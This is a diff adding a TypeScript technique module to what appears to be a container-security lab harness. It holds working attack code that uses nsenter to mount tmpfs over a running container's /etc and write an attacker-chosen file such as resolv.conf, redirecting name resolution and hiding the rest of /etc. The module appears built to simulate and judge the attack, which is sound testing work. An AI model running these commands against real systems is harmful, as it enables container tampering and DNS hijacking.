@@ -1,0 +1,32 @@
+/**
+ * Attack: root on the node mounts an empty tmpfs over a running container's
+ * /etc from inside its mount namespace and writes its own configuration
+ * file there (the target path, e.g. /etc/resolv.conf: name resolution now
+ * goes where the attacker says). Everything else in /etc disappears too.
+ */
+import { dirname } from 'node:path';
+import { LabError } from '../../errors.ts';
+import type { Technique } from '../technique.ts';
+import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
+import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';
+
+export const tmpfsOverEtc: Technique = {
+  name: 'tmpfs-over-etc',
+  async run(ctx) {
+    const { node, attack } = ctx;
+    const path = requirePath(attack);
+    if (dirname(path) !== '/etc') {
+      throw new LabError<AttackErrorCode>('ATTACK_SPEC_INCOMPLETE', `attack "${attack.metadata.name}": technique tmpfs-over-etc needs spec.target.path directly in /etc, got ${path}`);
+    }
+    const payload = Buffer.from(requirePayload(attack), 'utf8');
+    const target = await targetOf(ctx);
+    const mountinfoBefore = await mountinfoOf(node, target.pid);
+    const command = ['nsenter', '-t', String(target.pid), '-m', 'mount', '-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', '/etc'];
+    const startedAt = Date.now();
+    await attackerRuns(node, command);
+    const doneAt = Date.now();
+    // The container's new /etc is reachable from the node through its root.
+    await attackerRuns(node, ['sh', '-c', `cat > /proc/${target.pid}/root${path}`], payload);
+    return judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
+  },
+};
